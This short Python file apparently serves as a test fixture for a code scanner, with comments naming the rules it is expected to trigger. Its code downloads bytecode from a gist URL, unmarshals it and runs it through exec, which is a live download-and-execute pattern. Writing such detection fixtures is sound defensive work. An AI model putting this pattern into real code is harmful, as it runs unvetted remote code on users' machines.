# ruff: noqa
# fmt: off
"""Bytecode downloaded with urllib, unmarshalled and executed."""
import marshal
import urllib.request

blob = urllib.request.urlopen("https://gist.githubusercontent.com/x/1/raw/c.bin").read()
code = marshal.loads(blob)  # expect: unsafe-deserialization, download-execute
exec(code)  # expect: download-execute|exec-base64
